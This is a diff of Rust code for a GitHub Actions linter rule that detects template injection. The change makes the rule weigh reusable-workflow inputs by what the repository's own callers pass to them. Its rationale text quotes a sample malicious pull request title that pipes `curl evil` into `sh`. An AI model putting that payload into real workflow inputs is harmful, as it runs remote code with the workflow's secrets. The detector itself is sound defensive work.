@@ -1,12 +1,16 @@
 use crate::{Ctx, rule};
-use shipshape_core::{Confidence, Diagnostic};
-use std::collections::HashSet;
+use shipshape_core::classify::FileKind;
+use shipshape_core::project::Project;
+use shipshape_core::{Confidence, Diagnostic, Severity};
+use shipshape_yaml::{NodeRef, Yaml};
+use std::collections::{HashMap, HashSet};
+use std::path::PathBuf;
 
 rule! {
     code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
-    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release) as a warning with medium confidence. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (an error with high confidence when the workflow can be called, since a caller may pass on anything; a warning with medium confidence when only `workflow_dispatch` starts it, which takes write access); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release) as a warning with medium confidence. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` may be free text too. A `workflow_call` input is judged by what this repository's own callers (jobs with `uses: ./.github/workflows/<this file>`) pass to it under `with:`, as if they expanded it in `run:`: an outsider-set value (`github.event.pull_request.title`) makes it an error that names the caller, a value people with triage or write access set, or the caller's own string input passed on, a warning with medium confidence; when every caller passes values no outsider chooses (numbers, SHAs, matrix values, job outputs) it is not flagged, since a caller in another repository runs the workflow with its own token and secrets and gains nothing by injecting. With no caller in the repository (or no repository to read) it is free text from whoever calls the workflow: a warning with medium confidence. A `workflow_dispatch` input is a warning with medium confidence (starting the workflow takes write access). `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
@@ -132,49 +136,213 @@ fn env_name(path: &[String]) -> String {
 }
 
 /// The free-text inputs of a workflow: `workflow_dispatch` and `workflow_call` inputs of type
-/// `string` (or with no type, which `workflow_dispatch` reads as `string`), with whether the
-/// workflow can be called (a caller may pass on anything, pull request titles included).
-/// `boolean`, `number`, `choice` and `environment` inputs can only hold what their type allows.
-fn string_inputs(cx: &Ctx) -> (Vec<String>, bool) {
-    let mut names = Vec::new();
-    let mut callable = false;
-    if !cx.is_workflow() {
-        return (names, false);
-    }
-    for (event, node) in crate::model::triggers(cx.root) {
-        if event != "workflow_dispatch" && event != "workflow_call" {
-            continue;
-        }
-        callable |= event == "workflow_call";
-        for (k, v) in node.get("inputs").map(|i| i.entries()).unwrap_or_default() {
-            let ty = v.get("type").and_then(|t| t.as_str()).unwrap_or("string");
-            if let Some(name) = k.as_str()
-                && ty.eq_ignore_ascii_case("string")
-            {
-                names.push(name.to_ascii_lowercase());
-            }
-        }
-    }
-    (names, callable)
+/// `string` (or with no type, which `workflow_dispatch` reads as `string`), lower-cased, by the
+/// event that declares them. `boolean`, `number`, `choice` and `environment` inputs can only hold
+/// what their type allows.
+#[derive(Default)]
+struct StringInputs {
+    dispatch: Vec<String>,
+    call: Vec<String>,
 }
 
-/// How dangerous `inputs.X` / `github.event.inputs.X` is: only string inputs hold free text. Who
-/// sets them has write access (`workflow_dispatch`) or is a calling workflow, which may forward
-/// attacker text; the former is medium confidence.
-fn input_risk(path: &[String], strings: &[String], callable: bool) -> Option<Confidence> {
-    let name = match path {
-        [ctx, name] if ctx.eq_ignore_ascii_case("inputs") => name,
-        [gh, ev, ctx, name] if gh == "github" && ev == "event" && ctx == "inputs" => name,
-        _ => return None,
+impl StringInputs {
+    fn of(root: NodeRef) -> Self {
+        let mut out = Self::default();
+        for (event, node) in crate::model::triggers(root) {
+            let names = match event.as_str() {
+                "workflow_dispatch" => &mut out.dispatch,
+                "workflow_call" => &mut out.call,
+                _ => continue,
+            };
+            for (k, v) in node.get("inputs").map(|i| i.entries()).unwrap_or_default() {
+                let ty = v.get("type").and_then(|t| t.as_str()).unwrap_or("string");
+                if let Some(name) = k.as_str()
+                    && ty.eq_ignore_ascii_case("string")
+                {
+                    names.push(name.to_ascii_lowercase());
+                }
+            }
+        }
+        out
+    }
+
+    /// The string input `inputs.X` / `github.event.inputs.X` reads, lower-cased, with whether
+    /// `workflow_dispatch` and `workflow_call` declare it.
+    fn read_by(&self, path: &[String]) -> Option<(String, bool, bool)> {
+        let name = match path {
+            [ctx, name] if ctx.eq_ignore_ascii_case("inputs") => name,
+            [gh, ev, ctx, name] if gh == "github" && ev == "event" && ctx == "inputs" => name,
+            _ => return None,
+        };
+        let name = name.to_ascii_lowercase();
+        let (d, c) = (self.dispatch.contains(&name), self.call.contains(&name));
+        (d || c).then_some((name, d, c))
+    }
+}
+
+/// A value a workflow of this repository passes to a `workflow_call` input of a local reusable
+/// workflow (`uses: ./.github/workflows/x.yml` + `with:`) that may hold text its author did not
+/// choose.
+#[derive(Clone, Debug)]
+struct Passed {
+    /// The calling file, relative to the repository root.
+    caller: String,
+    /// The input, lower-cased.
+    input: String,
+    /// The context path the value expands.
+    what: String,
+    /// Who sets it, for the message.
+    who: String,
+    severity: Severity,
+    confidence: Confidence,
+}
+
+/// The repository's calls of its own reusable workflows: for each called file (canonical path),
+/// the calling files and the values they pass that may hold attacker text.
+#[derive(Default)]
+struct Callers {
+    by_callee: HashMap<PathBuf, (Vec<String>, Vec<Passed>)>,
+}
+
+impl Callers {
+    /// Read every workflow in `<root>/.github/workflows/` through the run's tree.
+    fn of(project: &Project) -> Self {
+        let tree = project.tree();
+        let dir = project.root.join(".github").join("workflows");
+        let mut out = Self::default();
+        for file in project.of_kind(&[FileKind::GithubWorkflow]) {
+            if file.parent() != Some(dir.as_path()) {
+                continue;
+            }
+            let Some(text) = tree.read(file) else { continue };
+            let yaml = Yaml::parse(&text);
+            let Some(root) = yaml.docs.first().and_then(|d| d.root()) else {
+                continue;
+            };
+            let caller = file
+                .strip_prefix(&project.root)
+                .unwrap_or(file)
+                .to_string_lossy()
+                .replace('\\', "/");
+            let own = StringInputs::of(root);
+            for (_, job) in crate::model::jobs(root) {
+                let Some((crate::model::Uses::Local(path), _)) = crate::model::uses_of(job) else {
+                    continue;
+                };
+                let called = project.root.join(path.trim_start_matches("./"));
+                let key = tree.canonicalize(&called).unwrap_or(called);
+                let entry = out.by_callee.entry(key).or_default();
+                entry.0.push(caller.clone());
+                for (k, v) in job.get("with").map(|w| w.entries()).unwrap_or_default() {
+                    let (Some(input), Some(value)) = (k.as_str(), v.as_str()) else {
+                        continue;
+                    };
+                    for e in crate::expr::embedded(value) {
+                        let Ok(parsed) = crate::expr::parse(e.inner) else { continue };
+                        for (path, _, _) in parsed.expanded_paths() {
+                            if let Some(p) = passed(&caller, input, path, &own) {
+                                entry.1.push(p);
+                            }
+                        }
+                    }
+                }
+            }
+        }
+        out
+    }
+}
+
+/// What a caller's `with: <input>: ${{ <path> }}` passes on, judged as if it were expanded in the
+/// caller's own `run:` (its own string inputs one level deep: free text from whoever runs or
+/// calls the caller, a warning).
+fn passed(caller: &str, input: &str, path: &[String], own: &StringInputs) -> Option<Passed> {
+    let (severity, confidence, who) = if own.read_by(path).is_some() {
+        (
+            Severity::Warning,
+            Confidence::Medium,
+            "is free text from whoever runs or calls it".to_owned(),
+        )
+    } else {
+        let confidence = injection_risk(path)?;
+        match set_by_maintainers(path) {
+            Some(access) => (Severity::Warning, confidence, format!("is set by people with {access} access")),
+            None => (meta().severity, confidence, "can be set by an outsider".to_owned()),
+        }
     };
-    strings
-        .iter()
-        .any(|s| s.eq_ignore_ascii_case(name))
-        .then_some(if callable { Confidence::High } else { Confidence::Medium })
+    Some(Passed {
+        caller: caller.to_owned(),
+        input: input.to_ascii_lowercase(),
+        what: path.join("."),
+        who,
+        severity,
+        confidence,
+    })
+}
+
+/// What the repository's callers pass to this workflow: `None` when no workflow of the repository
+/// calls it, or the repository cannot be read.
+fn callers_of(cx: &Ctx) -> Option<Vec<Passed>> {
+    let path = cx.file.path.as_deref()?;
+    let project = cx.core.projects.of(path)?;
+    let key = cx.core.tree().canonicalize(path).unwrap_or_else(|| path.to_path_buf());
+    let callers = project.fact(Callers::of);
+    let (files, passed) = callers.by_callee.get(&key)?;
+    (!files.is_empty()).then(|| passed.clone())
+}
+
+/// How a finding on an expanded input reads: severity, confidence and message.
+type Verdict = (Severity, Confidence, String);
+
+/// The verdict on `inputs.X` / `github.event.inputs.X` expanded into `what:`, or `None` when it is
+/// not a string input or nobody who could inject calls or runs the workflow. A `workflow_call`
+/// input is as dangerous as what this repository's callers pass to it (a caller in another
+/// repository runs the workflow with its own token and secrets: it gains nothing by injecting);
+/// with no caller here it is free text from whoever calls it, a warning. A `workflow_dispatch`
+/// input is set by someone with write access: a warning.
+fn input_verdict(path: &[String], inputs: &StringInputs, callers: &Option<Vec<Passed>>, what: &str) -> Option<Verdict> {
+    let (name, dispatch, call) = inputs.read_by(path)?;
+    let written = path.join(".");
+    if call {
+        let Some(passed) = callers else {
+            let who = if dispatch { "runs or calls" } else { "calls" };
+            return Some((
+                Severity::Warning,
+                Confidence::Medium,
+                format!("`{written}` is free text from whoever {who} the workflow and is expanded straight into `{what}:`"),
+            ));
+        };
+        let worst = passed
+            .iter()
+            .filter(|p| p.input == name)
+            .max_by_key(|p| (p.severity == Severity::Error, p.confidence == Confidence::High));
+        if let Some(p) = worst {
+            return Some((
+                p.severity,
+                p.confidence,
+                format!(
+                    "`{}` passes `{}`, which {}, as `{written}`, and it is expanded straight into `{what}:`",
+                    p.caller, p.what, p.who
+                ),
+            ));
+        }
+    }
+    dispatch.then(|| {
+        (
+            Severity::Warning,
+            Confidence::Medium,
+            format!("`{written}` is free text from whoever runs the workflow and is expanded straight into `{what}:`"),
+        )
+    })
 }
 
 fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
-    let (strings, callable) = string_inputs(cx);
+    let inputs = if cx.is_workflow() {
+        StringInputs::of(cx.root)
+    } else {
+        StringInputs::default()
+    };
+    // The repository's callers, read only when a `workflow_call` input is expanded.
+    let callers = std::cell::OnceCell::new();
     for (_, step) in cx.steps() {
         let mut scripts = Vec::new();
         if let Some(run) = step.get("run") {
@@ -193,10 +361,36 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                 // Only what reaches the expanded text: `${{ github.event.label.name == 'x' }}`
                 // expands to `true` or `false`, whatever the label says.
                 for (path, _, _) in e.parsed.expanded_paths() {
-                    let input = input_risk(path, &strings, callable);
-                    let Some(confidence) = input.or_else(|| injection_risk(path)) else {
-                        continue;
+                    let verdict = if inputs.read_by(path).is_some() {
+                        // An input nobody who could inject sets is not a finding: the next path.
+                        let Some(v) = input_verdict(path, &inputs, callers.get_or_init(|| callers_of(cx)), what) else {
+                            continue;
+                        };
+                        v
+                    } else {
+                        let Some(confidence) = injection_risk(path) else { continue };
+                        match set_by_maintainers(path) {
+                            // Label names (triage access) and release fields (write access) are
+                            // not set by outsiders: a warning.
+                            Some(access) => (
+                                Severity::Warning,
+                                confidence,
+                                format!(
+                                    "`{}` is set by people with {access} access and is expanded straight into `{what}:`",
+                                    path.join(".")
+                                ),
+                            ),
+                            None => (
+                                meta().severity,
+                                confidence,
+                                format!(
+                                    "`{}` can be set by an outsider and is expanded straight into `{what}:`",
+                                    path.join(".")
+                                ),
+                            ),
+                        }
                     };
+                    let (severity, confidence, message) = verdict;
                     let written = e.base.map(|_| e.span.text(cx.src));
                     if !reported.insert(written.map_or_else(|| path.join("."), str::to_owned)) {
                         break;
@@ -205,38 +399,11 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                         .filter(|_| what == "run")
                         .and_then(|w| cx.env_fix(step, places.get(w).map_or(&[][..], Vec::as_slice), w, &env_name(path)));
                     out.push(
-                        Diagnostic::new(
-                            meta(),
-                            e.span,
-                            if input.is_some() {
-                                format!(
-                                    "`{}` is free text from whoever runs or calls the workflow and is expanded straight into `{what}:`",
-                                    path.join(".")
-                                )
-                            } else if let Some(access) = set_by_maintainers(path) {
-                                format!(
-                                    "`{}` is set by people with {access} access and is expanded straight into `{what}:`",
-                                    path.join(".")
-                                )
-                            } else {
-                                format!(
-                                    "`{}` can be set by an outsider and is expanded straight into `{what}:`",
-                                    path.join(".")
-                                )
-                            },
-                        )
-                        // Label names (triage access), release fields and `workflow_dispatch`-only
-                        // inputs (write access) are not set by outsiders: a warning.
-                        .severity(
-                            if (input.is_none() && set_by_maintainers(path).is_some()) || (input.is_some() && !callable) {
-                                shipshape_core::Severity::Warning
-                            } else {
-                                meta().severity
-                            },
-                        )
-                        .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
-                        .confidence(confidence)
-                        .maybe_fix(fix),
+                        Diagnostic::new(meta(), e.span, message)
+                            .severity(severity)
+                            .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
+                            .confidence(confidence)
+                            .maybe_fix(fix),
                     );
                     break;
                 }
